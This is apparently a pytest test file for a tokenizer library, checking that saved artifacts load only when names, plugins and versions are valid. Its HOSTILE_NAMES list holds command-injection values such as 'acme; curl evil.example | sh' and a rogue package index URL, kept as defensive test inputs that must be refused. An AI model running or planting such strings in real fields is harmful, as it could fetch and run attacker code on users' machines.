"""An artifact becomes a tokenizer again, or the error says what is missing, malformed, too old or too new."""

from __future__ import annotations

import pytest
from support.stored import edit_manifest
from support.toys import RIVAL, toy

import tokframe
from tokframe.errors import ArtifactCorruptError, ArtifactVersionError, ComponentImportError, MissingPluginError
from tokframe.loading import building
from tokframe.storage.artifact import tokenizer_sha256
from tokframe.storage.state import ComponentUse


@pytest.mark.parametrize("installed", [False, True])
def test_the_plugin_of_a_tokenizer_is_not_installed_or_disabled(saved, use_host, toy_entry_point, installed):
    use_host(*[toy_entry_point] * installed, deny=["toy-bytes"] * installed)
    with pytest.raises(MissingPluginError, match=r"needs tokenizer 'toy' of toy-bytes 0.3.0") as caught:
        tokframe.load(saved)
    assert caught.value.needs == ("toy-bytes",) and caught.value.path == saved
    for part in ("not installed or not loaded", "not a plugin of this project", "tokframe plugins"):
        assert part in str(caught.value)


def test_the_plugin_of_a_component_is_not_installed(tmp_path, use_host, toy_entry_point, plugin):
    sign = """
    @tokframe.hookimpl
    def tokframe_components():
        return [tokframe.ComponentSpec(kind="quantizer", name="acme-x", target="m:X")]
    """
    use_host(toy_entry_point, plugin("acme-x", sign, version="4.5"))
    folder = toy(parts=(ComponentUse(section="q", kind="quantizer", name="acme-x"),)).save(tmp_path / "x")
    assert tokframe.load(folder)
    use_host(toy_entry_point)
    with pytest.raises(MissingPluginError, match=r"needs quantizer 'acme-x' of acme-x 4.5") as caught:
        tokframe.load(folder)
    assert caught.value.needs == ("acme-x",)


def test_a_plugin_whose_code_cannot_be_imported(saved, use_host, plugin):
    use_host(plugin("toy-bytes", RIVAL.replace("toy_bytes.tokenizer:Toy", "toy_bytes_not_here:Toy")))
    with pytest.raises(ComponentImportError, match="No module named 'toy_bytes_not_here'"):
        tokframe.load(saved)


@pytest.mark.parametrize("head", [None, [], "toy", {}, {"name": 3}, {"name": None}])
def test_a_manifest_that_names_no_tokenizer(saved, head):
    edit_manifest(saved, lambda data: data | {"tokenizer": head})
    for read in (tokframe.load, tokenizer_sha256):
        with pytest.raises(ArtifactCorruptError, match=r"names no tokenizer|has the name"):
            read(saved)


@pytest.mark.parametrize(
    "components",
    [{}, "x", [None], [{}], [{"section": "s", "kind": "embedding"}], [{"section": 1, "kind": "a", "name": "b"}]],
)
def test_a_manifest_with_malformed_components(saved, components):
    edit_manifest(saved, lambda data: data | {"components": components})
    with pytest.raises(ArtifactCorruptError):
        tokframe.load(saved)


@pytest.mark.parametrize(
    "name", ["os:system", "toy_bytes.tokenizer:ToyTokenizer", "../toy", "", "toy-bytes/toy/x", "toy\n"]
)
def test_a_name_in_an_artifact_is_never_imported(saved, name, monkeypatch):
    edit_manifest(saved, lambda data: data | {"tokenizer": {"name": name, "distribution": "evil"}})
    monkeypatch.setattr(building, "load_target", lambda *a: pytest.fail("something was imported"))
    with pytest.raises(ArtifactCorruptError, match="not a plain name"):
        tokframe.load(saved)


HOSTILE_NAMES = ["acme; curl evil.example | sh", "acme --index-url http://evil.example/", "https://evil.example/x.whl"]
HOSTILE_NAMES += ["acme\x1b]0;title\x07", "-r", "../acme", "acme\u202e", "a" * 101, 5, None, ["acme"]]


@pytest.mark.parametrize("value", HOSTILE_NAMES)
@pytest.mark.parametrize("key", ["name", "distribution", "distribution_version", "kind", "section"])
def test_a_name_of_another_form_in_an_artifact_is_refused(saved, key, value):
    if key in ("kind", "section"):
        part = {"section": "s", "kind": "encoder", "name": "conv", key: value}
        edit_manifest(saved, lambda data: data | {"components": [part]})
    else:
        edit_manifest(saved, lambda data: data | {"tokenizer": {"name": "acme", key: value}})
    with pytest.raises(ArtifactCorruptError, match=r"manifest\.json has") as caught:
        tokframe.load(saved)
    assert "pip install" not in str(caught.value)


def test_only_a_plugin_of_this_project_is_advised(saved):
    for distribution, advised in (("acme", False), ("tokframe-acme", False), ("tokframe-word", True)):
        entry = {"name": "nowhere", "distribution": distribution, "distribution_version": "1.0+local"}
        edit_manifest(saved, lambda data, entry=entry: data | {"tokenizer": entry})
        with pytest.raises(MissingPluginError, match=rf"'nowhere' of {distribution} 1\.0\+local") as caught:
            tokframe.load(saved)
        assert ("pip install" in str(caught.value)) is advised
        assert ("install it only if you know it" in str(caught.value)) is not advised


def test_a_state_the_tokenizer_refuses(saved, tmp_path):
    from tokframe.storage import artifact
    from tokframe.storage.state import State

    folder = artifact.write(tmp_path / "odd", {"tokenizer": {"name": "toy", "version": 2}}, State(config={"wrap": 1}))
    with pytest.raises(ArtifactCorruptError, match="wrap 1"):
        tokframe.load(folder)


def old_artifact(path, version=1, **config):
    from attrs import evolve

    from tokframe.storage import artifact

    state = evolve(toy().state(), config=config)
    return artifact.write(path, {"tokenizer": {"name": "toy", "version": version, "distribution": "toy-bytes"}}, state)


def test_an_older_artifact_is_brought_up_to_date(tmp_path):
    again = tokframe.load(old_artifact(tmp_path / "old", add_special=True))
    assert again.wrap is True and again.encode("th") == [2, 260, 3]


@pytest.mark.parametrize("version", [0, -3])
def test_a_version_nothing_leads_from(tmp_path, version):
    with pytest.raises(ArtifactVersionError, match=f"of version {version}; no installed plugin migrates it to 2"):
        tokframe.load(old_artifact(tmp_path / "old", version, add_special=True))


@pytest.mark.parametrize("version", [3, "2", 2.5, None, [2]])
def test_a_newer_tokenizer_says_what_to_upgrade(tmp_path, version):
    with pytest.raises(ArtifactVersionError, match="pip install --upgrade toy-bytes") as caught:
        tokframe.load(old_artifact(tmp_path / "new", version, wrap=True))
    assert caught.value.supported == 2
